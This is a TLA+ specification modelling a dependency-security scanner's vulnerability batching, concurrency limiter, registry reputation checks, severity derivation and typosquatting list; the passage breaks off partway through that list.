---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of tangkal's scan-and-risk-assessment pipeline:                 *)
(*   - the network risk auditor of src/src/analyzers/network.ts            *)
(*     (checkVulnerabilitiesBatch, checkReputation, the shared p-limit      *)
(*     limiter),                                                            *)
(*   - the audit phase of scanDirectory in src/src/scanner.ts, and its     *)
(*     manifest step (lifecycle scripts, and checkTyposquatting of         *)
(*     src/src/analyzers/dependencies.ts),                                 *)
(*   - deduplicate of src/src/utils/lockfile.ts.                           *)
(*                                                                         *)
(* A package list is identified with its length n: entry i (1-based) is    *)
(* the abstract dependency Pkg(i).  A chunk, the slice                      *)
(* packages.slice(i, i + chunkSize), is the index interval [lo, hi] of the *)
(* entries it holds.                                                       *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- checkVulnerabilitiesBatch (network.ts 105-223)
    packages,      \* length of the package list the call was given
    osv,           \* the vulnerability database: probed position -> advisory ids
    chunks,        \* the chunks built by lines 111-113
    ci,            \* index of the chunk the for-loop of line 117 is at
    vpc,           \* position of the call: "idle", "post", "details", "done"
    data,          \* the batch response of the current chunk
    detailsMap,    \* the per-chunk detail cache of line 135
    allVulns,      \* the findings accumulated by line 200
    posted,        \* every batch query issued so far (line 126), in order
    chunkStatus,   \* per chunk: "ok" when its try block completed, "failed" when line 217 caught
    detailLog,     \* every advisory detail request issued so far (line 139), in order
    \* ---- the shared limiter (network.ts 6)
    queue,         \* tasks submitted to limit() and not yet started, in submission order
    detailRunning, \* advisory ids whose detail fetch task is running
    \* ---- the reputation tasks of one scan (network.ts 41-100), counted by position
    repMeta,       \* running tasks awaiting the registry metadata request (line 46)
    repDl,         \* running tasks awaiting the weekly-download request (line 67)
    repDone,       \* tasks that returned
    repFindings,   \* Reputation findings the tasks have produced
    \* ---- scanDirectory, audit phase (scanner.ts 84-146)
    spc,           \* position of the scan: "files-done", "audit", "returned" ("none": no scan)
    skipAudit,     \* options.skipAudit
    packageJsonFound,
    manifestOk,    \* the root package.json parses as JSON
    manifestDeps,  \* number of names in its dependencies and devDependencies together
    lockDeps,      \* result of parsePackageLock: NoLock (null) or the length of the list
    depsToScan,    \* length of the dependency list the audit runs on
    allFindings,   \* the findings the scan returns
    \* ---- the severity derivation of lines 174-185, applied to one advisory
    advisory,      \* the advisory record v
    sevResult,     \* the severity derived for it (Absent before)
    \* ---- one call of checkReputation (network.ts 41-100)
    pkgName,       \* the package name the call was given
    rpc,           \* position of the call: "idle", "meta", "dl", "done"
    metaResponse,  \* how the registry metadata request settled
    dlResponse,    \* how the weekly-download request settled
    repResult,     \* the findings of the call
    \* ---- the manifest step of the file loop (scanner.ts 44-73)
    pkgJson,       \* the root package.json: whether it parses, and its maps
    mpc,           \* "none", or "idle" before the step and "done" after
    \* ---- deduplicate (lockfile.ts 152-156)
    deps,          \* the extracted dependencies, in extraction order
    unique,        \* the list it returns
    dpc,           \* "none", or "idle" before the call and "done" after
    \* ---- operations modelled one call at a time
    \* parsePackageLock (lockfile.ts 19-150)
    lockFiles,     \* the five lockfiles of the directory, by priority
    lpc,           \* "none", "running" or "returned"
    lockTry,       \* the position of the format tried next
    lockReads,     \* the positions of the files read so far, in order
    lockResult,    \* what the call returned
    \* the dependency list of the audit (scanner.ts 90-109)
    lockParsed,    \* what parsePackageLock returned
    pkgFile,       \* the package.json read again at line 102
    depsList,      \* depsToScan, entry by entry
    fpc,           \* "none", or "idle" before the step and "done" after
    \* analyzeContent (static-analysis.ts 72-279)
    content,       \* the text of a file: its lines, whether it parses, its entropy
    file,          \* the file's name, and whether it ends in .json
    findings,      \* the findings analyzeContent returned
    astRan,        \* whether parse() was called on the text
    cpc,           \* "none", or "idle" before the call and "done" after
    \* the file loop of scanDirectory (scanner.ts 38-82)
    files,         \* the files of the directory, in the order the loop visits them
    fi,            \* the position of the file the loop visits next
    \* the command line (cli.ts 11-21)
    argv,          \* the flags given on the command line
    options,       \* the options object the action handler receives
    \* getPopularPackages (popular-packages.ts 5-22)
    cachedPackages, \* the module-level cache of line 5 (NoCache: null)
    callers,       \* the calls of the process
    ppc,           \* per call: "idle", "awaiting" the request of line 11, or "returned"
    fetched,       \* the number of requests issued at line 11
    returnedList,  \* per call: the list it returned
    \* auditDependencies (network.ts 13-36)
    apc,           \* "none", or "called", "vuln", "rep", "returned"
    \* the fixed-in derivation (network.ts 155-172)
    affected,      \* v.affected of the advisory: whether present, and its entries
    fixedIn,       \* the version derived
    xpc            \* "none", or "idle" before the derivation and "done" after

vulnVars == <<packages, chunks, ci, vpc, data, detailsMap, allVulns, posted,
              chunkStatus>>

repVars == <<repMeta, repDl, repDone, repFindings>>

inputVars == <<osv, skipAudit, packageJsonFound, manifestOk, manifestDeps, lockDeps>>

scanVars == <<spc, depsToScan, allFindings>>

sevVars == <<advisory, sevResult>>

repCallVars == <<pkgName, rpc, metaResponse, dlResponse, repResult>>

manifestVars == <<pkgJson, mpc>>

dedupVars == <<deps, unique, dpc>>

\* the variables of each operation modelled one call at a time
lockVars == <<lockFiles, lpc, lockTry, lockReads, lockResult>>

IdleLock ==
    /\ lockFiles = <<>>
    /\ lpc = "none"
    /\ lockTry = 0
    /\ lockReads = <<>>
    /\ lockResult = [isNull |-> TRUE, list |-> <<>>]

fallbackVars == <<lockParsed, pkgFile, depsList, fpc>>

IdleFallback ==
    /\ lockParsed = [isNull |-> TRUE, list |-> <<>>]
    /\ pkgFile = [parses |-> FALSE, dependencies |-> <<>>, devDependencies |-> <<>>]
    /\ depsList = <<>>
    /\ fpc = "none"

contentVars == <<content, file, findings, astRan, cpc>>

IdleContent ==
    /\ content = [lines |-> <<>>, parses |-> FALSE, obfuscated |-> FALSE]
    /\ file = [name |-> "", isJson |-> FALSE]
    /\ findings = <<>>
    /\ astRan = FALSE
    /\ cpc = "none"

filesVars == <<files, fi>>

IdleFiles ==
    /\ files = <<>>
    /\ fi = 0

cliVars == <<argv, options>>

IdleCli ==
    /\ argv = {}
    /\ options = <<>>

popularVars == <<cachedPackages, callers, ppc, fetched, returnedList>>

IdlePopular ==
    /\ cachedPackages = <<"null">>
    /\ callers = {}
    /\ ppc = <<>>
    /\ fetched = 0
    /\ returnedList = <<>>

auditVars == <<apc>>

IdleAudit ==
    /\ apc = "none"

fixedInVars == <<affected, fixedIn, xpc>>

IdleFixedIn ==
    /\ affected = [present |-> FALSE, list |-> <<>>]
    /\ fixedIn = <<>>
    /\ xpc = "none"

unitVars == <<lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars, auditVars, fixedInVars>>

IdleUnits ==
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

auxVars == <<sevVars, repCallVars, manifestVars, dedupVars, unitVars>>

vars == <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars,
          auxVars>>

(***************************************************************************)
(* Program constants and bounds                                            *)
(***************************************************************************)
chunkSize == 500

Concurrency == 10

MaxPackages == 1200

\* the reputation ceiling of auditDependencies
ReputationCeiling == 200

\* the largest number of directly declared dependencies of an ordinary scan
MaxDirect == 2

\* the number of directly declared dependencies of a scan that fills the limiter
BurstDirect == 11

\* parsePackageLock returned null
NoLock == 0 - 1

\* the lengths of the lockfile's dependency list explored
LockSizes == {0, 1, ReputationCeiling - 1, ReputationCeiling}

\* the list sizes explored: empty, one chunk, exactly one full chunk, one
\* entry more than a chunk, and the largest list
PackageSizes == {0, 1, 2, chunkSize, chunkSize + 1, MaxPackages}

\* the age in days below which a package is reported as brand new
NewPackageDays == 14

\* entropy.ts line 17: a line longer than this is a long line
LongLineThreshold == 1000

\* part_001 line 31: the longest snippet of a Pattern finding
SnippetCap == 100

\* the weekly downloads below which a package is reported
LowDownloads == 50

\* the largest number of entries of a manifest's dependencies map, and of
\* its scripts map
MaxDeps == 1

MaxScripts == 2

\* the largest number of entries of the dependencies map read by the fallback
MaxFallbackDeps == 1

\* the largest number of runs of lines of a file text
MaxRuns == 2

\* the largest number of flagged constructs on one line of a text given to
\* the pattern rules
MaxTokens == 2

\* the largest number of files in a directory
MaxFiles == 2

\* the largest number of calls of getPopularPackages in a process
MaxCalls == 3

\* the largest number of events in one range of an advisory
MaxEvents == 1

\* the longest list given to deduplicate
MaxDedupLen == 3

\* the longest text, in words, of an advisory whose severity is derived
MaxWords == 2

\* advisory identifiers the database may return
AdvisoryIds == {"A", "B"}

\* the advisory lists the database holds for one package
StubIdLists == {<<>>, <<"A">>, <<"A", "B">>}

(***************************************************************************)
(* Advisory records.  The fields are the ones lines 153-198 probe:         *)
(*   dbSeverity  v.database_specific.severity ("<absent>" when missing)    *)
(*   cvss        v.severity, the list of CVSS score entries                *)
(*   words       the words of the remaining serialized fields              *)
(*   malformed   a probed field has a type the code cannot process (for    *)
(*               instance `affected` is not iterable), so that deriving    *)
(*               the finding throws                                        *)
(***************************************************************************)
Absent == "<absent>"

Advisory(id, dbSeverity, cvss, words, malformed) ==
    [id |-> id, dbSeverity |-> dbSeverity, cvss |-> cvss, words |-> words,
     malformed |-> malformed]

\* an advisory stub of the batch response: the batch endpoint answers the
\* identifier only
Stub(id, malformed) == Advisory(id, Absent, <<>>, <<>>, malformed)

\* the record the detail endpoint answers for an identifier
DetailOf(id) ==
    IF id = "A" THEN Advisory("A", "CRITICAL", <<"CVSS_V3">>, <<"Prototype", "Pollution">>, FALSE)
                ELSE Advisory(id, Absent, <<>>, <<"Medium", "impact">>, FALSE)

\* String.prototype.toLowerCase on the words the model uses
ToLowerCase(w) ==
    CASE w = "CRITICAL" -> "critical"
      [] w = "Critical" -> "critical"
      [] w = "HIGH"     -> "high"
      [] w = "Highly"   -> "highly"
      [] w = "MODERATE" -> "moderate"
      [] w = "Medium"   -> "medium"
      [] w = "LOW"      -> "low"
      [] w = "Prototype" -> "prototype"
      [] w = "Pollution" -> "pollution"
      [] w = "CVSS_V3"  -> "cvss_v3"
      [] w = "A"        -> "a"
      [] w = "B"        -> "b"
      [] OTHER          -> w

\* keyword is a substring of the (lower-case) word
IsSubstring(keyword, w) ==
    \/ w = keyword
    \/ keyword = "high" /\ w = "highly"

\* JSON.stringify(v).toLowerCase(): the lower-cased words of every field present
SerializedLower(v) ==
    LET fields == <<v.id>>
                  \o (IF v.dbSeverity = Absent THEN <<>> ELSE <<v.dbSeverity>>)
                  \o v.cvss \o v.words
    IN  [i \in 1..Len(fields) |-> ToLowerCase(fields[i])]

\* String.prototype.includes on the serialized advisory
Includes(text, keyword) == \E i \in 1..Len(text) : IsSubstring(keyword, text[i])

\* a JavaScript string is truthy unless missing or empty
Truthy(str) == str /= Absent /\ str /= ""

\* a derivation that misses the branch of line 177
SeverityOfWithoutCvss(v) ==
    IF Truthy(v.dbSeverity) THEN ToLowerCase(v.dbSeverity)
    ELSE LET text == SerializedLower(v)
         IN  IF Includes(text, "critical") THEN "critical"
             ELSE IF Includes(text, "high") THEN "high"
             ELSE IF Includes(text, "medium") THEN "medium"
             ELSE "low"

\* lines 174-185
SeverityOf(v) ==
    IF Truthy(v.dbSeverity) THEN ToLowerCase(v.dbSeverity)
    ELSE IF Len(v.cvss) > 0 THEN "high"
    ELSE LET text == SerializedLower(v)
         IN  IF Includes(text, "critical") THEN "critical"
             ELSE IF Includes(text, "high") THEN "high"
             ELSE IF Includes(text, "medium") THEN "medium"
             ELSE "low"

(***************************************************************************)
(* Dependencies and findings                                               *)
(***************************************************************************)
PkgName(i) == <<"name", i>>

PkgVersion(i) == <<"version", i>>

\* lines 200-212
VulnFinding(i, v) ==
    [type |-> "Vulnerability", name |-> PkgName(i), version |-> PkgVersion(i),
     severity |-> SeverityOf(v), file |-> "package-lock.json", id |-> v.id]

(***************************************************************************)
(* checkVulnerabilitiesBatch                                               *)
(***************************************************************************)
Min(a, b) == IF a < b THEN a ELSE b

\* a chunking whose slices run one entry into the next chunk
RECURSIVE ChunksFromOverlapping(_, _)
ChunksFromOverlapping(i, n) ==
    IF i >= n THEN <<>>
    ELSE <<[lo |-> i + 1, hi |-> Min(i + chunkSize + 1, n)]>>
         \o ChunksFromOverlapping(i + chunkSize, n)

\* lines 108-113: packages.slice(i, i + chunkSize) for i = 0, chunkSize, ...
RECURSIVE ChunksFrom(_, _)
ChunksFrom(i, n) ==
    IF i >= n THEN <<>>
    ELSE <<[lo |-> i + 1, hi |-> Min(i + chunkSize, n)]>> \o ChunksFrom(i + chunkSize, n)

Chunks(n) == ChunksFrom(0, n)

ChunkLen(chunk) == chunk.hi - chunk.lo + 1

\* the positions of a list of n packages the database may hold advisories for
Probe(n) == {1, n} \cap (1..n)

NoData == <<>>

\* the body the batch endpoint answers for a chunk: results[idx] lists the
\* advisories of the idx-th query (only the non-empty ones are represented)
\*   "ok"        one result per query
\*   "extra"     one result more than there were queries
\*   "badFields" the stubs carry a field of the wrong type
Response(chunk, kind) ==
    LET hit == {p \in DOMAIN osv : chunk.lo <= p /\ p <= chunk.hi /\ osv[p] /= <<>>}
        idxs == {p - chunk.lo + 1 : p \in hit}
                \cup (IF kind = "extra" THEN {ChunkLen(chunk) + 1} ELSE {})
    IN  [idx \in idxs |->
            IF idx > ChunkLen(chunk) THEN <<Stub("A", FALSE)>>
            ELSE LET ids == osv[chunk.lo + idx - 1]
                 IN  [k \in 1..Len(ids) |-> Stub(ids[k], kind = "badFields")]]

RECURSIVE SortedSeq(_)
SortedSeq(S) ==
    IF S = {} THEN <<>>
    ELSE LET m == CHOOSE x \in S : \A y \in S : x <= y
         IN  <<m>> \o SortedSeq(S \ {m})

\* the (idx, stub) pairs of a response in the order the forEach loops of
\* lines 129-133 and 147-152 visit them
RECURSIVE PairsOf(_, _)
PairsOf(d, idxSeq) ==
    IF idxSeq = <<>> THEN <<>>
    ELSE LET idx == Head(idxSeq)
         IN  [k \in 1..Len(d[idx]) |-> [idx |-> idx, stub |-> d[idx][k]]]
             \o PairsOf(d, Tail(idxSeq))

Pairs(d) == PairsOf(d, SortedSeq(DOMAIN d))

\* lines 128-133 and 136: the distinct advisory ids of the response, in
\* insertion order of the Set
RECURSIVE DistinctIds(_, _)
DistinctIds(pairs, seen) ==
    IF pairs = <<>> THEN <<>>
    ELSE LET id == Head(pairs).stub.id
         IN  IF id \in seen THEN DistinctIds(Tail(pairs), seen)
             ELSE <<id>> \o DistinctIds(Tail(pairs), seen \cup {id})

VulnIds(d) == DistinctIds(Pairs(d), {})

\* an emission that reads the detail cache only and drops an advisory whose
\* detail is missing, instead of falling back to the stub
RECURSIVE EmitFromDetailsOnly(_, _, _, _)
EmitFromDetailsOnly(pairs, chunk, dm, acc) ==
    IF pairs = <<>> THEN [findings |-> acc, threw |-> FALSE]
    ELSE LET p == Head(pairs)
         IN  IF p.idx > ChunkLen(chunk) \/ p.stub.id \notin DOMAIN dm
                 THEN EmitFromDetailsOnly(Tail(pairs), chunk, dm, acc)
             ELSE EmitFromDetailsOnly(Tail(pairs), chunk, dm,
                      Append(acc, [type |-> "Vulnerability",
                                   name |-> <<"name", chunk.lo + p.idx - 1>>,
                                   version |-> <<"version", chunk.lo + p.idx - 1>>,
                                   severity |-> "high", file |-> "package-lock.json",
                                   id |-> p.stub.id]))

\* lines 147-215: the findings of one chunk, in order; threw is TRUE when
\* deriving a finding raised an exception, which ends the chunk at line 217
\* with the findings pushed so far kept in allVulns
RECURSIVE EmitFrom(_, _, _, _)
EmitFrom(pairs, chunk, dm, acc) ==
    IF pairs = <<>> THEN [findings |-> acc, threw |-> FALSE]
    ELSE LET p == Head(pairs)
             v == IF p.stub.id \in DOMAIN dm THEN dm[p.stub.id] ELSE p.stub
         IN  IF p.idx > ChunkLen(chunk)                      \* line 150: if (!pkg) return
                 THEN EmitFrom(Tail(pairs), chunk, dm, acc)
             ELSE IF v.malformed
                 THEN [findings |-> acc, threw |-> TRUE]
             ELSE EmitFrom(Tail(pairs), chunk, dm,
                           Append(acc, VulnFinding(chunk.lo + p.idx - 1, v)))

EmitChunk(chunk, d, dm) == EmitFrom(Pairs(d), chunk, dm, <<>>)

\* the limiter's tasks
DetailTask(id) == [kind |-> "detail", id |-> id]

RepTask == [kind |-> "rep", id |-> "-"]

DetailQueued == \E k \in 1..Len(queue) : queue[k].kind = "detail"

RepQueued == \E k \in 1..Len(queue) : queue[k].kind = "rep"

\* a limiter that admits no further task once a reputation task has returned
ActiveCountAfterReturn ==
    IF repDone > 0 THEN Concurrency ELSE Cardinality(detailRunning) + repMeta + repDl

\* p-limit's activeCount: the tasks started and not yet settled
ActiveCount == Cardinality(detailRunning) + repMeta + repDl

\* outbound requests issued and not yet settled: every running limiter task
\* awaits exactly one request, and the batch query of line 126 is awaited
\* outside the limiter
InFlight == ActiveCount + (IF vpc = "post" THEN 1 ELSE 0)

\* the loop of line 117 moves to the chunk after chunk k: its batch query is
\* issued at once (line 126), or the call returns (line 222)
NextChunk(k) ==
    IF k < Len(chunks)
        THEN /\ ci' = k + 1
             /\ posted' = Append(posted, chunks[k + 1])
             /\ vpc' = "post"
        ELSE /\ ci' = k
             /\ posted' = posted
             /\ vpc' = "done"

\* lines 105-126: the call with a list of n packages, up to the first batch query
CallVuln(n) ==
    /\ packages' = n
    /\ chunks' = Chunks(n)
    /\ IF n = 0
          THEN /\ vpc' = "done"
               /\ UNCHANGED <<ci, posted>>
          ELSE /\ ci' = 1
               /\ posted' = <<Chunks(n)[1]>>
               /\ vpc' = "post"
    /\ UNCHANGED <<data, detailsMap, allVulns, chunkStatus>>

\* checkVulnerabilitiesBatch called on its own
CheckVulnerabilitiesBatch ==
    /\ spc = "none"
    /\ vpc = "idle"
    /\ CallVuln(packages)
    /\ UNCHANGED <<detailLog, queue, detailRunning, repVars, inputVars, scanVars, auxVars>>

\* line 126 rejects (network error, timeout, non-2xx status), or the body is
\* malformed so that lines 129-131 throw (no results array, a null result):
\* line 217 catches before anything of the chunk was emitted
BatchFailed ==
    /\ vpc = "post"
    /\ \E reason \in {"rejected", "malformed"} :
          chunkStatus' = Append(chunkStatus, reason)
    /\ NextChunk(ci)
    /\ UNCHANGED <<packages, chunks, data, detailsMap, allVulns>>
    /\ UNCHANGED <<detailLog, queue, detailRunning, repVars, inputVars, scanVars, auxVars>>

\* lines 126-143: the batch query is answered; the distinct advisory ids are
\* collected and one detail task per id is submitted to the limiter
BatchAnswered ==
    /\ vpc = "post"
    /\ \E kind \in {"ok", "extra", "badFields"} :
          LET d == Response(chunks[ci], kind)
              ids == VulnIds(d)
          IN  /\ data' = d
              /\ queue' = queue \o [k \in 1..Len(ids) |-> DetailTask(ids[k])]
    /\ detailsMap' = <<>>
    /\ vpc' = "details"
    /\ UNCHANGED <<packages, chunks, ci, allVulns, posted, chunkStatus>>
    /\ UNCHANGED <<detailLog, detailRunning, repVars, inputVars, scanVars, auxVars>>

\* p-limit starts the oldest queued task when fewer than Concurrency run;
\* a detail task issues its request at once (line 139)
LimiterStartDetail ==
    /\ queue /= <<>>
    /\ Head(queue).kind = "detail"
    /\ ActiveCount < Concurrency
    /\ detailRunning' = detailRunning \cup {Head(queue).id}
    /\ detailLog' = Append(detailLog, Head(queue).id)
    /\ queue' = Tail(queue)
    /\ UNCHANGED <<vulnVars, repVars, inputVars, scanVars, auxVars>>

\* lines 139-140: the detail request is answered and cached
DetailFetched ==
    \E id \in detailRunning :
        /\ detailsMap' = [x \in DOMAIN detailsMap \cup {id} |->
                             IF x = id THEN DetailOf(id) ELSE detailsMap[x]]
        /\ detailRunning' = detailRunning \ {id}
        /\ UNCHANGED <<packages, chunks, ci, vpc, data, allVulns, posted, chunkStatus>>
        /\ UNCHANGED <<detailLog, queue, repVars, inputVars, scanVars, auxVars>>

\* line 141: the detail request fails and the failure is swallowed
DetailFailed ==
    \E id \in detailRunning :
        /\ detailRunning' = detailRunning \ {id}
        /\ UNCHANGED <<vulnVars, detailLog, queue, repVars, inputVars, scanVars, auxVars>>

\* lines 145-220: every detail task has settled; the findings of the chunk
\* are pushed and the loop goes on
ChunkEmit ==
    /\ vpc = "details"
    /\ ~DetailQueued
    /\ detailRunning = {}
    /\ LET r == EmitChunk(chunks[ci], data, detailsMap)
       IN  /\ allVulns' = allVulns \o r.findings
           /\ chunkStatus' = Append(chunkStatus, IF r.threw THEN "threw" ELSE "ok")
    /\ NextChunk(ci)
    /\ data' = NoData
    /\ detailsMap' = <<>>
    /\ UNCHANGED <<packages, chunks>>
    /\ UNCHANGED <<detailLog, queue, detailRunning, repVars, inputVars, scanVars, auxVars>>

(***************************************************************************)
(* checkReputation inside a scan.  The tasks of a scan are counted by the  *)
(* position they are at; what one call returns for a given name is modelled *)
(* call by call further below.                                             *)
(***************************************************************************)
\* p-limit starts the oldest queued task; a reputation task issues the
\* registry metadata request at once (line 46)
LimiterStartRep ==
    /\ queue /= <<>>
    /\ Head(queue).kind = "rep"
    /\ ActiveCount < Concurrency
    /\ queue' = Tail(queue)
    /\ repMeta' = repMeta + 1
    /\ UNCHANGED <<repDl, repDone, repFindings>>
    /\ UNCHANGED <<vulnVars, detailLog, detailRunning, inputVars, scanVars, auxVars>>

\* lines 84-97: the metadata request fails; a 404 yields one finding, any
\* other failure yields none
RepMetaFailed ==
    /\ repMeta > 0
    /\ \E notFound \in BOOLEAN :
          repFindings' = repFindings + (IF notFound THEN 1 ELSE 0)
    /\ repMeta' = repMeta - 1
    /\ repDone' = repDone + 1
    /\ UNCHANGED repDl
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, inputVars, scanVars, auxVars>>

\* lines 46-67: the metadata request is answered; a package younger than 14
\* days yields one finding; the weekly-download request is issued
RepMetaAnswered ==
    /\ repMeta > 0
    /\ \E brandNew \in BOOLEAN :
          repFindings' = repFindings + (IF brandNew THEN 1 ELSE 0)
    /\ repMeta' = repMeta - 1
    /\ repDl' = repDl + 1
    /\ UNCHANGED repDone
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, inputVars, scanVars, auxVars>>

\* lines 67-82: the download request settles; fewer than 50 downloads yield
\* one finding, a failure none
RepDownloadsSettled ==
    /\ repDl > 0
    /\ \E low \in BOOLEAN :
          repFindings' = repFindings + (IF low THEN 1 ELSE 0)
    /\ repDl' = repDl - 1
    /\ repDone' = repDone + 1
    /\ UNCHANGED repMeta
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, inputVars, scanVars, auxVars>>

(***************************************************************************)
(* scanDirectory, audit phase                                              *)
(***************************************************************************)
\* lines 90-109: the dependency list of the audit
DepsToScan(lock, ok, nManifest) ==
    IF lock /= NoLock THEN lock
    ELSE IF ok THEN nManifest
    ELSE 0

\* lines 118-122
DirectDepsNames(ok, nManifest) == IF ok THEN nManifest ELSE 0

RepFinding == [type |-> "Reputation", file |-> "package.json"]

\* lines 84-127: the audit starts: every reputation lookup is submitted to the
\* limiter (line 124) and checkVulnerabilitiesBatch is called (line 127)
StartAudit ==
    /\ spc = "files-done"
    /\ LET n == DepsToScan(lockDeps, manifestOk, manifestDeps)
           direct == DirectDepsNames(manifestOk, manifestDeps)
       IN  IF ~skipAudit /\ packageJsonFound /\ n > 0
              THEN /\ depsToScan' = n
                   /\ queue' = queue \o [k \in 1..direct |-> RepTask]
                   /\ CallVuln(n)
                   /\ spc' = "audit"
              ELSE /\ depsToScan' = (IF ~skipAudit /\ packageJsonFound THEN n ELSE 0)
                   /\ spc' = "returned"
                   /\ UNCHANGED <<vulnVars, queue>>
    /\ UNCHANGED <<detailLog, detailRunning, repVars, inputVars, allFindings, auxVars>>

\* lines 129-145: both paths have completed; their findings are appended and
\* the scan returns
FinishAudit ==
    /\ spc = "audit"
    /\ vpc = "done"
    /\ ~RepQueued
    /\ repMeta = 0
    /\ repDl = 0
    /\ allFindings' = allFindings
                      \o [k \in 1..repFindings |-> RepFinding]
                      \o [k \in 1..Len(allVulns) |->
                             [allVulns[k] EXCEPT !.file = "package-lock.json"]]
    /\ spc' = "returned"
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars,
                   depsToScan, auxVars>>

(***************************************************************************)
(* The severity derivation on its own                                      *)
(***************************************************************************)
DbSeverities == {Absent, "", "CRITICAL", "HIGH", "MODERATE", "LOW"}

CvssLists == {<<>>, <<"CVSS_V3">>}

SeverityWords == {"Critical", "Highly", "Medium", "impact"}

SeqsUpTo(S, n) == UNION {[1..k -> S] : k \in 0..n}

Advisories ==
    {Advisory("A", d, c, w, FALSE) :
        d \in DbSeverities, c \in CvssLists, w \in SeqsUpTo(SeverityWords, MaxWords)}

NoAdvisory == Advisory("-", Absent, <<>>, <<>>, FALSE)

\* lines 174-185 applied to the advisory
DeriveSeverity ==
    /\ sevResult = Absent
    /\ advisory /= NoAdvisory
    /\ sevResult' = SeverityOf(advisory)
    /\ UNCHANGED <<advisory, repCallVars, manifestVars, dedupVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars>>

(***************************************************************************)
(* checkReputation, one call                                               *)
(***************************************************************************)
\* package names are sequences of characters
ReputationNames ==
    {<<"p">>, <<"@", "s", "/", "p">>, <<"p", "@", "s">>}

\* String.prototype.startsWith
StartsWith(str, c) == Len(str) > 0 /\ str[1] = c

\* how a request can settle.  kind "error": axios rejected, status is the
\* HTTP status of error.response (0: no response, a timeout or network
\* error).  kind "ok": the request was answered with a body; for the
\* metadata request, body tells what the body holds:
\*   "noTime"     no time object: reading meta.time.created throws
\*   "noCreated"  a time object without a parsable created date
\*   "created"    a creation date, ageDays days before now
\* and for the download request:
\*   "null"       no object: reading dl.downloads throws
\*   "noCount"    an object without a downloads number
\*   "count"      a downloads number
Settled(kind, status, body, value) ==
    [kind |-> kind, status |-> status, body |-> body, value |-> value]

Pending == Settled("pending", 0, "-", 0)

MetaResponses ==
    {Settled("error", st, "-", 0) : st \in {0, 404, 500}}
    \cup {Settled("ok", 200, b, 0) : b \in {"noTime", "noCreated"}}
    \cup {Settled("ok", 200, "created", a) :
              a \in {0, NewPackageDays - 1, NewPackageDays, 400}}

DlResponses ==
    {Settled("error", st, "-", 0) : st \in {0, 404}}
    \cup {Settled("ok", 200, b, 0) : b \in {"null", "noCount"}}
    \cup {Settled("ok", 200, "count", d) :
              d \in {0, LowDownloads - 1, LowDownloads, 1000}}

ReputationFinding(name, severity, what) ==
    [type |-> "Reputation", name |-> name, file |-> "package.json",
     severity |-> severity, description |-> what]

\* a not-found severity that ignores the scope
NotFoundSeverityUnscopedOnly(name) == "critical"

\* lines 86-91
NotFoundSeverity(name) == IF StartsWith(name, "@") THEN "low" ELSE "critical"

\* lines 42-46: the call; its task is started by the limiter, which has no
\* other task, and issues the registry metadata request
CheckReputation ==
    /\ rpc = "idle"
    /\ pkgName /= <<>>
    /\ rpc' = "meta"
    /\ UNCHANGED <<pkgName, metaResponse, dlResponse, repResult, sevVars, manifestVars, dedupVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars>>

\* lines 46-62 and 84-98: the metadata request settles
MetaSettled ==
    /\ rpc = "meta"
    /\ \E r \in MetaResponses :
          /\ metaResponse' = r
          /\ IF r.kind = "error"
                THEN /\ repResult' = IF r.status = 404
                                        THEN <<ReputationFinding(pkgName,
                                                   NotFoundSeverity(pkgName), "not found")>>
                                        ELSE <<>>
                     /\ rpc' = "done"
             ELSE IF r.body = "noTime"
                THEN /\ repResult' = <<>>            \* TypeError, caught at line 84
                     /\ rpc' = "done"
             ELSE /\ repResult' = IF r.body = "created" /\ r.value < NewPackageDays
                                     THEN <<ReputationFinding(pkgName, "high", "brand new")>>
                                     ELSE <<>>       \* NaN < 14 is false
                  /\ rpc' = "dl"
    /\ UNCHANGED <<pkgName, dlResponse, sevVars, manifestVars, dedupVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars>>

\* lines 65-82: the download request settles and the call returns
DownloadsSettled ==
    /\ rpc = "dl"
    /\ \E r \in DlResponses :
          /\ dlResponse' = r
          /\ repResult' = IF r.kind = "ok" /\ r.body = "count" /\ r.value < LowDownloads
                             THEN Append(repResult,
                                         ReputationFinding(pkgName, "medium", "low downloads"))
                             ELSE repResult
    /\ rpc' = "done"
    /\ UNCHANGED <<pkgName, metaResponse, sevVars, manifestVars, dedupVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars>>

(***************************************************************************)
(* The manifest step: lifecycle scripts and typosquatting                  *)
(***************************************************************************)
POPULAR_PACKAGES ==
    << <<"r", "e", "a", "c", "t">>,
       <<"r", "e", "a", "c", "t", "-", "d", "o", "m">>,
       <<"n", "e", "x", "t">>,
       <<"v", "u", "e">>,
       <<"e", "x", "p", "r", "e", "s", "s">>,
       <<"l", "o", "d", "a", "s", "h">>,
       <<"c", "o", "m", "m", "a", "n", "d", "e", "r">>,
       <<"c", "h", "a", "l", "k">>,
       <<"a", "x", "i", "o", "s">>,
       <<"t", "s", "l", "i", "b">>,
       <<"t", "y", "p", "e", "s", "c", "r", "i", "p", "t">>,
       <<"e", "s", "l", "i", "n", "t">>,
       <<"j", "e", "s", "t">>,
       <<"m", "o", "m", "e", "n", "t">>,
       <<"d", "a", "t", "e", "-", "f", "n", "s">>,
       <<"u", "u", "i", "d">>,
       <<"c", "l", "a", "s", "s", "n", "a", "m", "e", "s">>,
       <<"p", "r", "o", "p", "-", "t", "y", "p", "e", "s">>,
       <<"w", "e", "b", "p", "a", "c", "k">>,
       <<"b", "a", "b", "e", "l", "-", "c", "o", "r", "e">>,
       <<"b", "o", "d", "y", "-", "p", "a", "r", "s", "e", "r">>,
